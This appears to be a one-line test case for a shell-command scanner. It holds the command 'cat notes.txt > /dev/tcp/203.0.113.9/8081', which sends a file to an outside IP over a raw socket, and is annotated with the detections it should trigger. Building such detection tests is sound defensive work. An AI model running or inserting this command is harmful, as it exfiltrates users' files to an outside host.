cat notes.txt > /dev/tcp/203.0.113.9/8081 # expect: data-exfiltration/raw-socket, url-analyzer/raw-ip
